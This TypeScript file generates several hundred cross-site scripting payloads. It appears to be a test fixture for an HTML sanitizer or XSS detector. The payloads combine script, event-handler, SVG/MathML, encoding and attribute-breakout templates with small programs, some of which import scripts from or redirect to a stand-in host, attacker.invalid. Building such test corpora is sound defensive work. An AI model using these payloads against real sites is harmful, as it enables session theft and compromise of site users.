/** Each reports to the page's detector. @param mark number of the payload */
const programs: readonly ((mark: number) => string)[] = [
  (mark) => `__xss(${mark})`,
  (mark) => `alert(${mark})`,
  (mark) => `top['__x'+'ss'](${mark})`,
  (mark) => `setTimeout('__xss(${mark})')`,
  (mark) => `import('https://attacker.invalid/${mark}.js')`,
];

/** Only attribute values decode character references. */
const encodeEntities = (mark: number) =>
  [...`__xss(${mark})`].map((character) => `&#${character.codePointAt(0)};`).join("");

type Template = (program: string, mark: number) => string;

/** Every payload is self-contained: the following content is parsed as before. */
const completeTemplates: readonly Template[] = [
  (program) => `<script>${program}</script>`,
  (program) => `<ScRiPt>${program}</sCrIpT >`,
  (program) => `<script/x>${program}</script>`,
  (program) => `<scr<script>ipt>${program}</scr</script>ipt>`,
  (program) => `<script type="module">${program}</script>`,
  (_, mark) => `<script src="https://attacker.invalid/${mark}.js"></script>`,
  (_, mark) => `<script src="//attacker.invalid/${mark}.js"></script>`,
  (program) => `<script src="data:text/javascript,${program}"></script>`,
  (program) => `<img src=x onerror="${program}">`,
  (program) => `<img src=x onerror=${program}>`,
  (program) => `<img/src=x/onerror=${program}//>`,
  (program) => `<img src=x:x onerror\n=\n"${program}">`,
  (_, mark) => `<img src=x onerror="${encodeEntities(mark)}">`,
  (program) => `<img src="x\` \`<script>${program}</script>"\` \`>`,
  (program) => `<img src onerror /" '"= alt=${program}//">`,
  (program) => `<img """><script>${program}</script>">`,
  (program) => `<IMG SRC="jav&#x09;ascript:${program}">`,
  (program) => `<img srcset="x 1x, y 2x" sizes="1px" onerror="${program}">`,
  (program) => `<picture><source srcset="javascript:${program}"><img src=x onerror="${program}"></picture>`,
  (program) =>
    `<figure><img src=x onerror="${program}"><figcaption onclick="${program}">c</figcaption></figure>`,
  (program) => `<svg onload="${program}"></svg>`,
  (program) => `<svg/onload=${program}></svg>`,
  (program) => `<svg><script>${program}</script></svg>`,
  (program) => `<svg><script href="data:text/javascript,${program}" /></svg>`,
  (program) => `<svg><a xlink:href="javascript:${program}"><text x="20" y="20">x</text></a></svg>`,
  (program) => `<svg><animate onbegin="${program}" attributeName="x" dur="1s" /></svg>`,
  (program) => `<svg><set attributeName="onmouseover" to="${program}" /></svg>`,
  (program) =>
    `<svg><foreignObject><iframe srcdoc="<script>${program}</script>"></iframe></foreignObject></svg>`,
  (program) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${program}'/>#x" /></svg>`,
  (program) => `<svg><style><img src="</style><img src=x onerror=${program}>"></style></svg>`,
  (program) => `<svg></p><style><a id="</style><img src=1 onerror=${program}>"></style></svg>`,
  (program) =>
    `<math><mtext><table><mglyph><style><img src=x onerror=${program}></style></mglyph></table></mtext></math>`,
  (program) => `<math><mi//xlink:href="data:x,<script>${program}</script>"></mi></math>`,
  (program) => `<math href="javascript:${program}">m</math>`,
  (program) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${program}"></style></annotation-xml></math>`,
  (program) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${program}></style></mglyph></form></mtext></math>`,
  (program) => `<noscript><p title="</noscript><img src=x onerror=${program}>"></p></noscript>`,
  (program) => `<xmp><p title="</xmp><img src=x onerror=${program}>"></p></xmp>`,
  (program) => `<template><script>${program}</script></template>`,
  (program) => `<select><style></select><img src=x onerror="${program}"></style></select>`,
  (program) => `<details open ontoggle="${program}"><summary>x</summary></details>`,
  (program) => `<video onerror="${program}"><source src=x></video>`,
  (program) => `<audio src=x onerror="${program}"></audio>`,
  (program) => `<video poster="javascript:${program}"></video>`,
  (program) => `<input autofocus onfocus="${program}">`,
  (program) => `<button autofocus onfocus="${program}">x</button>`,
  (program) => `<p tabindex=1 autofocus onfocus="${program}">x</p>`,
  (program) => `<body onload="${program}"></body>`,
  (program) => `<marquee onstart="${program}">x</marquee>`,
  (program) => `<iframe src="javascript:${program}"></iframe>`,
  (program) => `<iframe srcdoc="<script>parent.${program}</script>"></iframe>`,
  (_, mark) => `<iframe src="https://attacker.invalid/${mark}"></iframe>`,
  (program) => `<object data="javascript:${program}"></object>`,
  (program) => `<object data="data:text/html,<script>${program}</script>"></object>`,
  (program) => `<embed src="javascript:${program}">`,
  (_, mark) => `<link rel="stylesheet" href="https://attacker.invalid/${mark}.css">`,
  (_, mark) => `<link rel="preload" as="image" href="https://attacker.invalid/${mark}.png">`,
  (_, mark) => `<style>@import "https://attacker.invalid/${mark}.css";</style>`,
  (_, mark) => `<style>body{background:url(https://attacker.invalid/${mark}.png)}</style>`,
  (_, mark) => `<p style="background:url(https://attacker.invalid/${mark}.png)">x</p>`,
  (_, mark) => `<p style="text-align: center; background:url(//attacker.invalid/${mark}.png)">x</p>`,
  (program) => `<p style="text-align:center" onmouseover="${program}" style='x:expression(${program})'>x</p>`,
  (program) => `<mark data-color="#FFF3A3" style="background-color:url(javascript:${program})">x</mark>`,
  (_, mark) => `<base href="https://attacker.invalid/${mark}/">`,
  (_, mark) => `<meta http-equiv="refresh" content="0;url=https://attacker.invalid/${mark}">`,
  (program) => `<meta http-equiv="refresh" content="0;url=javascript:${program}">`,
  (_, mark) => `<form action="https://attacker.invalid/${mark}"><button autofocus>x</button></form>`,
  (program) =>
    `<form action="javascript:${program}"><button formaction="javascript:${program}">x</button></form>`,
  (program) => `<isindex type=image src=x onerror="${program}">`,
  (program) => `<a href="javascript:${program}">x</a>`,
  (program) => `<a href="JaVaScRiPt:${program}">x</a>`,
  (program) => `<a href=" &#14; javascript:${program}">x</a>`,
  (program) => `<a href="java&#10;script:${program}">x</a>`,
  (program) => `<a href="java\tscript:${program}">x</a>`,
  (program) => `<a href="\u0001javascript:${program}">x</a>`,
  (program) => `<a href="javascript&colon;${program}">x</a>`,
  (program) => `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${program}">x</a>`,
  (program) => `<a href="data:text/html,<script>${program}</script>">x</a>`,
  (program) => `<a href="vbscript:${program}">x</a>`,
  (program) => `<a href="https://www.youtube.com/watch?v=&quot;onload=&quot;${program}">x</a>`,
  (program) =>
    `<a href="https://youtu.be/abcdefghijk&quot; onmouseover=&quot;${program}">https://youtu.be/abcdefghijk</a>`,
  (program) =>
    `<a href='https://e.example/"onmouseover="${program}'>https://e.example/"onmouseover="${program}</a>`,
  (program) => `<a href="#" onclick="${program}" target="x"><script>${program}</script>">x</a>`,
  (program) =>
    `<h2 id="x' onmouseover='${program}">x</h2><h1 onclick="${program}">"><script>${program}</script></h1>`,
  (program) => `<pre><code class="language-x&quot; onload=&quot;${program}">x</code></pre>`,
  (program) => `<ol start="1&quot; onclick=&quot;${program}"><li>x</li></ol>`,
  (program) => `&lt;script&gt;${program}&lt;/script&gt;`,
  (program) => `&amp;lt;img src=x onerror=${program}&amp;gt;`,
  (program) => `\uff1cscript\uff1e${program}\uff1c/script\uff1e`,
  (program) => `\u003cimg src=x onerror=${program}\u003e`,
  (program) => `+ADw-script+AD4-${program}+ADw-/script+AD4-`,
  (program) => `<a\u0000 href="javascript:${program}">x</a><im\u0000g src=x onerror=${program}>`,
  (program) => `<x\u2028onclick="${program}">x</x>`,
  (program) =>
    `<img alt="a" alt="b" onerror="${program}" src="data:image/svg+xml,<svg onload='${program}'/>">`,
  (program) => `<name-with-dash onpointerrawupdate="${program}" is="x">x</name-with-dash>`,
];

const endingTemplates: readonly Template[] = [
  (program) => `"><script>${program}</script>`,
  (program) => `'><script>${program}</script>`,
  (program) => `" autofocus onfocus="${program}" x="`,
  (program) => `' onmouseover='${program}' x='`,
  (program) => `\` onload=\`${program}`,
  (program) => `</script><script>${program}</script>`,
  (program) => `</title><script>${program}</script>`,
  (program) => `</textarea><img src=x onerror="${program}">`,
  (program) => `</style><img src=x onerror="${program}">`,
  (program) => `]]><script>${program}</script>`,
  (program) => `--><script>${program}</script><!--`,
  (program) => `--!><img src=x onerror=${program}>`,
  (program) => `";${program};//`,
  (program) => `';${program};//`,
  (program) => `\\";${program};//`,
  (program) => `\\u0022;${program};//`,
  (program) => `"}];${program};//`,
  (program) => `\${${program}}`,
  (program) => `{{constructor.constructor('${program}')()}}`,
  (program) => `\u2028${program}\u2029`,
  (program) => `javascript:${program}`,
  (program) => `javascript://%0a${program}`,
  (program) => `//attacker.invalid/${program}`,
  (program) => `\r\nContent-Type: text/html\r\n\r\n<script>${program}</script>`,
];

/** They swallow the following content. */
const unclosedTemplates: readonly Template[] = [
  (program) => `<!--<img src="--><img src=x onerror=${program}//">`,
  (program) => `<!--><img src=x onerror=${program}>-->`,
  (program) => `<textarea><img src=x onerror=${program}>`,
  (program) => `<title><img src=x onerror=${program}></title><style>`,
  (program) => `<style><!--</style><script>${program}//--></script>`,
  (program) => `<![CDATA[<img src=x onerror=${program}>]]><!`,
  (program) => `<?xml version="1.0"?><img src=x onerror=${program}><?`,
  (program) => `<plaintext><img src=x onerror=${program}>`,
  (program) => `<img src="x" title="<script>${program}</script>`,
  (program) => `<a href="javascript:${program}//`,
  (program) => `<svg><style>{font-family:"<iframe/onload=${program}>"`,
  (program) => `<math><style></math><img src=x onerror=${program}><table><td>`,
];

function createPayloads(templates: readonly Template[], first: number): readonly string[] {
  return templates.flatMap((template, place) =>
    programs.map((program, index) => {
      const mark = first + place * programs.length + index;
      return template(program(mark), mark);
    }),
  );
}

export const completePayloads = createPayloads(completeTemplates, 1000);
export const unclosedPayloads = createPayloads(unclosedTemplates, 3000);
export const endingPayloads = createPayloads(endingTemplates, 4000);
export const payloads: readonly string[] = [...endingPayloads, ...completePayloads, ...unclosedPayloads];
